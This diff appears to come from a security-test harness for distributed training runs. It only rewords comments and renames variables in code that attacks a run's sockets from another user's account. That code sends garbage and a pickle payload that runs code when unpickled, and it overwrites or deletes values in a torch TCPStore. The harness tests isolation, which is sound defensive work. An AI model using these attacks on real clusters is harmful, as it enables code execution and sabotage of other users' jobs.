@@ -1,6 +1,6 @@
-"""A program of another user that does to a run's sockets what it can; it gives up after a few seconds.
+"""Attacks on the sockets of a run by a program of another user; an attack ends after a few seconds.
 
-As root it takes the rights of `nobody` first. Else it is another program of the same user, which has no key.
+If started as root, the program becomes the user `nobody`. Otherwise it is a program of the same user, without the key.
 """
 
 from __future__ import annotations
@@ -24,18 +24,18 @@ import torch.distributed as dist
 
 NOBODY: Final = 65534
 TIMEOUT_S: Final = 0.5
-STORE_S: Final = 20.0  # until a launcher's store answers, which admits any process
+STORE_S: Final = 20.0  # until the store of a launcher answers, which admits any process
 LIMIT_S: Final = 50.0  # of one attack
-START_S: Final = 60.0  # until a launcher is there, and until its run begins to join
-SPELL_S: Final = 4.0  # of overwriting or deleting from then on; while that goes on, ranks may not find each other
+START_S: Final = 60.0  # until a launcher listens, and until its run begins to join
+SPELL_S: Final = 4.0  # duration of the attack from that moment; ranks may not find each other during it
 GARBAGE: Final = (b"\0" * 8, b"\xff" * 4096, b"GET / HTTP/1.0\r\n\r\n")
 
 
-"".encode("idna")  # imported now: another user may not be able to read Python's files
+"".encode("idna")  # imported now: another user may have no permission to read Python's files
 
 
 class Exploit:
-    """Makes a folder where it is unpickled."""
+    """Create a folder when unpickled."""
 
     def __init__(self, marker: str) -> None:
         self.marker = marker
@@ -45,17 +45,17 @@ class Exploit:
 
 
 def external_addresses() -> list[str]:
-    """Return this machine's addresses beside loopback."""
-    found = [address for addresses in psutil.net_if_addrs().values() for address in addresses]
-    return [one.address for one in found if one.family == socket.AF_INET and not one.address.startswith("127.")]
+    """Return this machine's addresses except loopback addresses."""
+    interfaces = [address for addresses in psutil.net_if_addrs().values() for address in addresses]
+    return [nic.address for nic in interfaces if nic.family == socket.AF_INET and not nic.address.startswith("127.")]
 
 
 def attack(targets: dict[str, Any]) -> list[str]:
-    """Attack the sockets of a run; returns what has succeeded.
+    """Attack the sockets of a run; return the successful attacks.
 
     Args:
-        targets: `addresses` of the run's machine beside loopback, `ports` of its processes, paths of Unix `sockets`,
-            `files` of the run, the `marker`, and whether a launcher has started the run (`launched`).
+        targets: `addresses` of the run's machine except loopback, `ports` of its processes, paths of Unix `sockets`,
+                `files` of the run, the `marker`, and whether a launcher has started the run (`launched`).
     """
     reached = []
     successes, exploit = [], pickle.dumps(Exploit(targets["marker"]))
@@ -65,23 +65,23 @@ def attack(targets: dict[str, Any]) -> list[str]:
             successes.append(f"read {path}")
     for path in targets["sockets"]:
         with contextlib.suppress(OSError):
-            for words in (*GARBAGE, exploit, (len(exploit)).to_bytes(4, "big") + exploit):
+            for data in (*GARBAGE, exploit, (len(exploit)).to_bytes(4, "big") + exploit):
                 with socket.socket(socket.AF_UNIX) as peer:
                     peer.connect(path)
                     successes.append(f"connected to {path}")
-                    peer.sendall(words)
+                    peer.sendall(data)
     for port in targets["ports"]:
         for address in ("127.0.0.1", *targets["addresses"]):
             with contextlib.suppress(OSError):
-                for words in (*GARBAGE, exploit):
+                for data in (*GARBAGE, exploit):
                     with socket.create_connection((address, port), TIMEOUT_S) as peer:
                         reached.append((address, port))
-                        peer.sendall(words)
+                        peer.sendall(data)
     reached = sorted(set(reached))
     successes += [f"connected to {address}:{port}" for address, port in reached if address != "127.0.0.1"]
-    stores = [threading.Thread(target=attack_store, args=(*place, exploit, successes)) for place in reached]
+    stores = [threading.Thread(target=attack_store, args=(*target, exploit, successes)) for target in reached]
     for thread in stores:
-        thread.daemon = True  # torch waits for ever for the answer of a port at which no store is
+        thread.daemon = True  # torch waits without limit for a port without a store
         thread.start()
     deadline, together = time.monotonic() + STORE_S, time.monotonic() + TIMEOUT_S  # all threads run at once
     for thread in stores:
@@ -94,19 +94,19 @@ def attack(targets: dict[str, Any]) -> list[str]:
 
 
 def attack_store(address: str, port: int, exploit: bytes, successes: list[str]) -> None:
-    """Attack what may be a TCPStore."""
+    """Attack a port that may belong to a TCPStore."""
     limit = timedelta(seconds=STORE_S)
     with contextlib.suppress(RuntimeError):
         store = dist.TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=limit)
-        store.list_keys()  # fails where a socket has connected to itself, at a port that has been closed meanwhile
+        store.list_keys()  # fails if a socket has connected to its own port, which was closed in the meantime
         successes.append(f"a store at port {port}")
         write_to(store, exploit)
 
 
 def write_to(store: Any, exploit: bytes) -> None:
-    """Do to each value of a run what a store allows: overwrite it, add to it, replay it elsewhere, delete it.
+    """Attack each value of a run in a store: overwrite it, add to it, replay it under another key, delete it.
 
-    torchrun's own keys are left alone: its rendezvous unpickles some of them.
+    torchrun's own keys are not attacked: its rendezvous unpickles some of them.
     """
     prefixes = {"", "fabricx/", *(key.split("job")[0] for key in store.list_keys() if "job" in key)}
     for prefix in prefixes:
@@ -135,14 +135,14 @@ def _wait_for(port: int) -> None:
 
 
 def overwrite(port: int, exploit: bytes, kind: str) -> list[str]:
-    """Overwrite or delete a run's values in its launcher's store, from before they are there until the store has gone.
+    """Overwrite or delete the values of a run in its launcher's store, from the run's start until the store has closed.
 
-    torchrun's own keys are left alone: its rendezvous unpickles some of them.
+    torchrun's own keys are not attacked: its rendezvous unpickles some of them.
     """
     written: set[str] = set()
     with contextlib.suppress(RuntimeError):
-        _wait_for(port)  # torch's client may wait for a minute after connections that were refused
-        limit = timedelta(seconds=START_S)  # on a busy machine the launcher takes its time
+        _wait_for(port)  # torch's client may wait for a minute after refused connections
+        limit = timedelta(seconds=START_S)  # a launcher starts slowly on a busy machine
         store: Any = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=limit)
         deadline = time.monotonic() + START_S
         while time.monotonic() < deadline:
@@ -159,7 +159,7 @@ def overwrite(port: int, exploit: bytes, kind: str) -> list[str]:
 
 
 def as_another_user(action: Callable[[], Any], limit_s: float = LIMIT_S) -> str:
-    """Return the result of an action, as text, of a child process without this user's rights."""
+    """Run an action in a child process without this user's rights; return its result as text."""
     reader, writer = os.pipe()
     if (child := os.fork()) == 0:
         os.close(reader)
@@ -185,7 +185,7 @@ def as_another_user(action: Callable[[], Any], limit_s: float = LIMIT_S) -> str:
 
 
 def main(folder: Path, names: Iterable[str]) -> None:
-    """Attack each run of those names, when its targets are known; the result is in a file then."""
+    """Attack each of these runs when its file of targets exists, and write the result to a file."""
     for name in names:
         while not (folder / f"{name}.targets").exists():
             time.sleep(0.01)
